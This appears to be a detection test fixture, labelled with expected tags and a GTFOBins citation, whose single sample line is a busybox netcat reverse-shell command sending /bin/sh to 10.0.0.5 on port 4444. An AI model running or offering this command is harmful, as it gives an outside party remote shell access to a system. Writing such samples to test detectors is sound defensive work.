# expect: shell-spawn,raw-socket
# source: GTFOBins busybox / nc
# technique: busybox nc -e /bin/sh: reverse shell through the multi-call binary
busybox nc 10.0.0.5 4444 -e /bin/sh
